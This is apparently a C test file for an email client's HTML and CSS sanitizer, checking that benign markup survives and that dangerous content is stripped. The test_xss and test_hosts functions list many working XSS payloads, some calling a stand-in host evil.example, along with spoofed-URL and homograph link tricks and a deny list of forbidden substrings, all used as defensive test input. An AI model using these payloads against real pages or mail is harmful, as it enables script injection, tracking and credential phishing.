/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include "hearth-html-original.h"
#include "hearth-mail-error.h"

#include <string.h>

static GBytes *
find_image (const char *id, const char **type, gpointer user_data)
{
  if (strcmp (id, "pixel@x") != 0 && strcmp (id, "vector@x") != 0)
    return NULL;
  *type = strcmp (id, "pixel@x") == 0 ? "image/png" : "image/svg+xml";
  return g_bytes_new_static ("PNG", 3);
}

static char *
sanitize (const char *html)
{
  return hearth_html_sanitize (html, strlen (html), find_image, NULL);
}

static void
test_kept (void)
{
  static const struct {
    const char *html;
    const char *expected;
  } cases[] = {
    { "<p>One <b>two</b></p>", "<p>One <b>two</b></p>" },
    { "5 &lt; 6 &amp; \"7\"", "<p>5 &lt; 6 &amp; &quot;7&quot;</p>" },
    { "<table width=\"600\" bgcolor=\"#fff\"><tr><td colspan=2 style=\"color:red;padding:4px "
      "8px\">x</td></tr></table>",
      "<table width=\"600\" bgcolor=\"#fff\"><tr><td colspan=\"2\" style=\"color:red;padding:4px "
      "8px;\">x</td></tr></table>" },
    { "<p>a<br>b<hr></p>", NULL },
    { "<p><img src=\"cid:pixel@x\" alt=\"dot\" width=1></p>",
      "<p><img src=\"data:image/png;base64,UE5H\" width=\"1\" alt=\"dot\"></p>" },
    { "<p><font face=\"Arial, sans-serif\" color=\"#333\">t</font></p>",
      "<p><font face=\"Arial, sans-serif\" color=\"#333\">t</font></p>" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    g_autofree char *out = sanitize (cases[i].html);

    if (cases[i].expected != NULL)
      g_assert_cmpstr (out, ==, cases[i].expected);
  }
}

/* None of these may come through in any spelling. */
static const char *const never[] = {
  "<script",        "javascript:", "vbscript:",      "<iframe",     "<object",    "<embed",
  "<form",          "<input",      "<svg",           "<math",       "<base",      "<meta",
  "<link",          "<video",      "<audio",         "expression(", "url(",       "@import",
  "position:fixed", "<frame",      "behavior",       "<applet",     "src=\"http", "background=",
  "http-equiv",     "data:text",   "data:image/svg",
};

static void
test_xss (void)
{
  static const char *const attacks[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://evil.example/track.gif\" alt=\"hi\">",
    "<img src=//evil.example/track.gif>",
    "<img src='javascript:alert(1)'>",
    "<img src=\"cid:vector@x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img srcset=\"http://evil.example/a 1x\" src=\"cid:none\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"http://x\" onclick=\"alert(1)\" onmouseover=alert(1)>x</a>",
    "<a href='http://x/\" onmouseover=\"alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<body onload=alert(1) background=\"http://evil.example/x.gif\">x",
    "<table background=\"http://evil.example/x.gif\"><tr><td background=x>y</table>",
    "<div style=\"background-image:url(http://evil.example/x)\">x</div>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
    "<div style=\"background:\\75rl(http://evil.example)\">x</div>",
    "<div style=\"background-color:ur\\l(http://evil.example)\">x</div>",
    "<div style=\"behavior:url(x.htc);-moz-binding:url(x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style='color:red\"onclick=alert(1)'>x</div>",
    "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<style>@import 'http://evil.example/x.css'; p{color:red}</style>",
    "<style>p{background:url(http://evil.example/x)}</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style>",
    "<style></style><script>alert(1)</script>",
    "<style>p{color:red}<!--</style><script>alert(1)</script>-->",
    "<style>a[href^=http]{background:url(x)} p:after{content:\"</style><script>\"}</style>",
    "<style>@media screen{p{background:u\\rl(x)}}}<script>alert(1)</script></style>",
    "<style>@media url(http://evil.example/x){p{color:red}}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<base href=\"http://evil.example/\"><a href=\"x\">y</a>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"><embed src=x></object>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x "
    "onerror=alert(1)></style></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form action=http://evil.example><input name=password><button>Go</button></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<video poster=http://evil.example/x><source src=http://evil.example/y></video>",
    "<audio src=http://evil.example autoplay></audio>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
    "<p class=\"x&quot; onclick=&quot;alert(1)\">x</p>",
    "<td width=\"1&quot; onload=alert(1)\">x</td>",
    "<a href=\"http://evil.example\\@bank.example\">x</a>",
    "<a href=\"mailto:a@b.example?body=&quot;&gt;&lt;script&gt;\">x</a>",
    "\x3c\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<div<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<portal src=http://evil.example></portal>",
    "<frameset onload=alert(1)><frame src=http://evil.example></frameset>",
    "<bgsound src=http://evil.example><layer src=x></layer>",
  };

  for (guint i = 0; i < G_N_ELEMENTS (attacks); i++) {
    g_autofree char *out = sanitize (attacks[i]);
    g_autofree char *lower = g_ascii_strdown (out, -1);
    g_autofree char *again = sanitize (out);

    g_test_message ("%s", out);
    for (guint k = 0; k < G_N_ELEMENTS (never); k++)
      g_assert_null (strstr (lower, never[k]));
    /* An attribute that is an event stands before "=", outside of quotes. */
    g_assert_false (
        g_regex_match_simple ("<[a-z0-9]+( [a-z]+=\"[^\"]*\")* on[a-z]+\\s*=", lower, 0, 0));
    /* Each tag is whole: a browser has nothing to guess. */
    g_assert_true (g_regex_match_simple (
        "^([^<>]|<[a-z][a-z0-9]*( [a-z]+=\"[^\"<>]*\")*>|</[a-z][a-z0-9]*>|<style>[^<]*</style>)*$",
        out, 0, 0));
    g_assert_true (strstr (again, "script>") == NULL);
  }
}

static void
test_links (void)
{
  g_autofree char *out = sanitize ("<a href=\"https://evil.example/x?a=1&b=2\" title=\"bank.com\">"
                                   "www.bank.com</a> <a href=\"mailto:a@b.example\">write</a>"
                                   "<a href=\"ftp://x/\">f</a>");

  g_assert_nonnull (strstr (out, "href=\"https://evil.example/x?a=1&amp;b=2\""));
  g_assert_nonnull (strstr (out, "rel=\"noopener noreferrer nofollow\""));
  g_assert_nonnull (strstr (out, "title=\"https://evil.example/x?a=1&amp;b=2\""));
  g_assert_null (strstr (out, "title=\"bank.com\""));
  g_assert_nonnull (strstr (out, "www.bank.com</a><span style=\"all:initial!important"));
  g_assert_nonnull (strstr (out, "\"> [evil.example]</span>"));
  g_assert_nonnull (strstr (out, "<a href=\"mailto:a@b.example\">write</a>"));
  g_assert_null (strstr (out, "ftp:"));
}

/* The host beside a link is where a browser goes, however the address is spelled. */
static void
test_hosts (void)
{
  static const struct {
    const char *href;
    const char *host; /* NULL if it is no link */
    const char *address;
  } cases[] = {
    { "https://bank.com;.evil.example/a", NULL, NULL },
    { "https://bank.com;evil.example", NULL, NULL },
    { "https://bank.com%2f.evil.example/", NULL, NULL },
    { "https://bank.com%23.evil.example/", NULL, NULL },
    { "https://bank.com,evil.example/", NULL, NULL },
    { "https://bank.com&#92;.evil.example/", NULL, NULL },
    { "https:evil.example", NULL, NULL },
    { "https:///evil.example", NULL, NULL },
    { "https://&#x202e;elpmaxe.live/", NULL, NULL },
    { "https://www.bank.com@evil.example/x", "evil.example", "https://evil.example/x" },
    { "https://www.bank.com:a%40b@evil.example", "evil.example", "https://evil.example/" },
    { "https://ev%69l.EXAMPLE:8443/?q#f", "evil.example", "https://evil.example:8443/?q#f" },
    { "https://evil.example?@bank.com", "evil.example", "https://evil.example/?@bank.com" },
    { "https://b\u0430nk.com/", "xn--bnk-6cd.com", "https://xn--bnk-6cd.com/" },
    { "https://bank.com\u2044login.evil.example/", "bank.xn--comlogin-g03d.evil.example", NULL },
    { "https://[::1]:80/", "::1", "https://[::1]:80/" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    g_autofree char *html = g_strdup_printf ("<a href=\"%s\" title=\"bank\">x</a>", cases[i].href);
    g_autofree char *out = sanitize (html);
    g_autofree char *host = g_strdup_printf ("> [%s]</span>", cases[i].host);
    g_autofree char *href = g_strdup_printf (" href=\"%s\"", cases[i].address);

    g_test_message ("%s", out);
    if (cases[i].host == NULL)
      g_assert_null (strstr (out, "href="));
    else
      g_assert_nonnull (strstr (out, host));
    if (cases[i].address != NULL)
      g_assert_nonnull (strstr (out, href));
  }
}

static void
test_css (void)
{
  g_autofree char *sheet = hearth_css_sanitize (
      "@import 'x'; .a , td > b{color:#fff!important;position:fixed;background:url(x)}"
      "@media only screen and (max-width:600px){.b{width:100%}} @font-face{src:url(y)}"
      "/* } */ c{font-family:\"A b\",serif} d[x]{color:red} e{color:red");

  g_assert_cmpstr (sheet, ==,
                   ".a , td > b{color:#fff!important;}\n"
                   "@media only screen and (max-width:600px){.b{width:100%;}\n}\n"
                   "c{font-family:'A b',serif;}\n");
}

/* Nothing is drawn over the host beside a link, or puts it out of sight. */
static void
test_cover (void)
{
  g_autofree char *out =
      hearth_css_sanitize_inline ("margin:0 -5px;margin-top:-1em;text-indent:-9999px;"
                                  "letter-spacing:-.5em;padding:1px;font-family:a-1");
  g_autofree char *link = sanitize ("<a href=\"https://evil.example\">x</a>");

  g_assert_cmpstr (out, ==, "padding:1px;font-family:a-1;");
  g_assert_nonnull (strstr (link,
                            "position:relative!important;z-index:2147483647!important;"
                            "direction:ltr!important;unicode-bidi:isolate-override!important"));
}

static GBytes *
count_images (const char *id, const char **type, gpointer user_data)
{
  (*(guint *) user_data)++;
  return NULL;
}

static void
test_bounds (void)
{
  g_autoptr (GString) deep = g_string_new (NULL);
  g_autofree char *out = NULL;

  for (guint i = 0; i < 100000; i++)
    g_string_append (deep, "<div>");
  out = sanitize (deep->str);
  g_assert_cmpuint (strlen (out), <, 100 * 1024);
}

/* To look for an image is to decode a part: a hundred thousand times that is an hour. */
static void
test_many_images (void)
{
  g_autoptr (GString) many = g_string_new (NULL);
  g_autofree char *out = NULL;
  guint n_images = 0;

  for (guint i = 0; i < 100000; i++)
    g_string_append (many, "<img src=cid:a@b>");
  out = hearth_html_sanitize (many->str, many->len, count_images, &n_images);
  g_assert_cmpuint (n_images, <=, 500);
}

static void
test_page (void)
{
  static const char mail[] =
      "From: a@b.example\r\nSubject: <b>Hi</b>\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
      "Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
      "<p>Gr\xfc\xdf"
      "e <img src=\"cid:a@b\"><img src=\"http://evil.example/x\"></p>\r\n--x\r\n"
      "Content-Type: image/png\r\nContent-ID: <a@b>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
      "UE5H\r\n--x--\r\n";
  static const char plain[] = "Subject: x\r\n\r\n<script>alert(1)</script>\r\n";
  static const char none[] = "Subject: x\r\nContent-Type: application/pdf\r\n\r\nx\r\n";
  g_autoptr (GBytes) raw = g_bytes_new_static (mail, sizeof mail - 1);
  g_autoptr (GBytes) raw_plain = g_bytes_new_static (plain, sizeof plain - 1);
  g_autoptr (GBytes) raw_none = g_bytes_new_static (none, sizeof none - 1);
  g_autoptr (GError) error = NULL;
  g_autofree char *page = hearth_html_original (raw, &error);
  g_autofree char *plain_page = hearth_html_original (raw_plain, NULL);

  g_assert_no_error (error);
  g_assert_nonnull (strstr (page, "default-src 'none'; img-src data:;"));
  g_assert_nonnull (strstr (page, "<title>&lt;b&gt;Hi&lt;/b&gt;</title>"));
  g_assert_nonnull (
      strstr (page, "<p>Grüße <img src=\"data:image/png;base64,UE5H\" alt=\"\"></p>"));
  g_assert_null (strstr (page, "evil"));
  g_assert_nonnull (strstr (plain_page, "&lt;script&gt;alert(1)&lt;/script&gt;"));
  g_assert_null (hearth_html_original (raw_none, &error));
  g_assert_error (error, HEARTH_MAIL_ERROR, HEARTH_MAIL_ERROR_NOT_FOUND);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/html-original/kept", test_kept);
  g_test_add_func ("/html-original/xss", test_xss);
  g_test_add_func ("/html-original/links", test_links);
  g_test_add_func ("/html-original/hosts", test_hosts);
  g_test_add_func ("/html-original/css", test_css);
  g_test_add_func ("/html-original/cover", test_cover);
  g_test_add_func ("/html-original/bounds", test_bounds);
  g_test_add_func ("/html-original/many-images", test_many_images);
  g_test_add_func ("/html-original/page", test_page);
  return g_test_run ();
}
